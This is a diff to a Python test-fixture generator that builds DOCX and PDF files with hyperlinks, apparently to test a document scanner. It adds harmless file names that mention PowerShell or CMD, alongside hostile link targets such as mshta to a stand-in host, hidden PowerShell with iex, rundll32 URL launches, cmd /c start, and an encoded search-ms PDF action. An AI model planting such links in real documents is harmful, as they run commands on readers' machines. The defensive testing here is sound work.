@@ -378,7 +378,13 @@ def _everyday_fields() -> Iterator[_Made]:
         for name, data in _fields_in(code):
             yield f"{what}/{name}", data
     for number, target in enumerate(
-        ("javascript:void(0)", "search.html", "ms-word:ofe|u|https://x.sharepoint.com/a.docx", "cmd/readme.md")
+        (
+            *("javascript:void(0)", "search.html", "ms-word:ofe|u|https://x.sharepoint.com/a.docx", "cmd/readme.md"),
+            *("PowerShell%20Handbuch.pdf", "../docs/CMD Commands.docx", "file:///C:/Docs/PowerShell Guide.pdf"),
+            *("PowerShell%20-%20Grundlagen.pdf", r"\\FILESERVER\it\PowerShell Scripts", "cmd (Windows).html"),
+            *("PowerShell Teil 1: Dateien.pdf", "CMD Kommandos,Tipps.pdf", "PowerShell Start-Hilfe.pdf"),
+            *(r"C:\System32\notes\cmd.txt", "file:///C:/Windows/System32/drivers/etc"),
+        )
     ):
         yield f"address-{number}/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", target)])
         yield f"address-{number}/paper.pdf", _with_address(target)
@@ -432,7 +438,15 @@ def _addresses() -> Iterator[_Made]:
     ):
         yield f"{number}/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", target.replace("&", "&amp;"))])
         yield f"{number}/paper.pdf", _with_address(target)
-    yield "words/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", "mshta http://x.example/a")])
+    for number, target in enumerate(
+        (
+            *("mshta http://x.example/a", "mshta%20javascript:close()", r"mshta \\192.0.2.9\s\a"),
+            *("powershell -w hidden", "pwsh iex a", "file:///C:/x/cmd%20/c%20start"),
+            *("rundll32  shell32,Control_RunDLL a", "rundll32%20url.dll,OpenURL a"),
+            *("file:///C:/Windows/System32/a/b/wscript ", "file:C:/x/mshta C:/a.pdf", "cmd %22/c%22"),
+        )
+    ):
+        yield f"words-{number}/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", target)])
     yield "locked/paper.pdf", doc.pdf_bytes().replace(b"/Catalog", b"/Catalog /A << /U#52I <7365617263682D6D733A78> >>")
 
 
